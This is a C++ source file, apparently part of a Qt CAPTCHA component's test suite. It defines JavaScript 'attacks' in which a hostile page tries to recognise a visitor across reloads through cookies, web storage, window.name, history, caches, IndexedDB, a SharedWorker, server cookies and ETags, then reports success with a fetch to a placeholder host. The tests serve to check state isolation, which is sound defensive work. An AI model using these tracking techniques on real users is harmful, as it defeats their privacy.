// SPDX-FileCopyrightText: 2026 SmartCaptcha for Qt contributors
// SPDX-License-Identifier: MIT

#include "attack.h"

namespace {

/// The first load leaves something behind, which it has to find itself, and the second says elsewhere if it
/// finds it.
Attack keeping(const char *what, const QByteArray &leave, const QByteArray &find)
{
    return Attack{
        .name = QByteArray("keeps ") + what,
        .script = "begun = async () => { const find = async () => " + find
            + "; if (await find()) fetch('ELSEWHERE/kept', {mode: 'no-cors'}); else await (async () => "
            + leave + ")(); if (await find()) { ran(); done(); } };",
        .act = loadAgain,
        .dones = 2,
        .proof = {"/ran", "/ran"},
        .watch = 300,
        .loads = 2};
}

} // namespace

// A page that wants to recognise the person at the next load.
QList<Attack> attacksToKeep()
{
    QList<Attack> attacks;
    attacks << keeping("a cookie", "{ document.cookie = 'kept=1; max-age=9999'; }",
                       "document.cookie.includes('kept')");
    attacks << keeping("local storage", "{ localStorage.setItem('kept', 1); }",
                       "localStorage.getItem('kept')");
    attacks << keeping("session storage", "{ sessionStorage.setItem('kept', 1); }",
                       "sessionStorage.getItem('kept')");
    attacks << keeping("the window's name", "{ window.name = 'kept'; }", "window.name === 'kept'");
    attacks << keeping("its history",
                       "{ for (let n = 0; n < 8; ++n) history.pushState({}, '', '/page?kept'); }",
                       "history.length > 8");
    attacks << keeping("a cache", "caches.open('kept').then(c => c.put('/kept', new Response('x')))",
                       "caches.has('kept')");
    attacks << keeping("a database", "new Promise(r => { indexedDB.open('kept', 2).onsuccess = r; })",
                       "indexedDB.databases().then(d => d.length > 0)");
    // It counts who has asked.
    const QByteArray ask =
        "new Promise(r => { const w = new SharedWorker('data:text/javascript,onconnect = e => {"
        "self.n = (self.n || 0) + 1; e.ports[0].postMessage(self.n); }'); w.port.onmessage = e => r(e.data > "
        "1); })";
    attacks << keeping("a shared worker", ask, ask);
    attacks << Attack{
        .name = "keeps a cookie of the server",
        .script = "begun = done;",
        .prepare =
            [](HostileSite &site) {
                site.respond("/frame", [&site](QTcpSocket *socket, const ScriptedServer::Request &request) {
                    if (!request.header("Cookie").isEmpty())
                        site.note("cookie " + request.header("Cookie"));
                    ScriptedServer::answer("", "200 OK",
                                           "Content-Type: text/html\r\n"
                                           "Set-Cookie: kept=1; Max-Age=9999\r\n")(socket, request);
                });
            },
        .act = loadAgain,
        .dones = 2,
        .proof = {"/frame", "/frame"},
        .loads = 2};
    attacks << Attack{
        .name = "keeps what the cache has",
        .script = "begun = done;",
        .prepare =
            [](HostileSite &site) {
                site.respond("/frame", [&site](QTcpSocket *socket, const ScriptedServer::Request &request) {
                    if (!request.header("If-None-Match").isEmpty())
                        site.note("tag " + request.header("If-None-Match"));
                    ScriptedServer::answer("", "200 OK",
                                           "Content-Type: text/html\r\nETag: \"kept\"\r\n"
                                           "Cache-Control: no-cache\r\n")(socket, request);
                });
            },
        .act = loadAgain,
        .dones = 2,
        .proof = {"/frame", "/frame"},
        .loads = 2};
    return attacks;
}
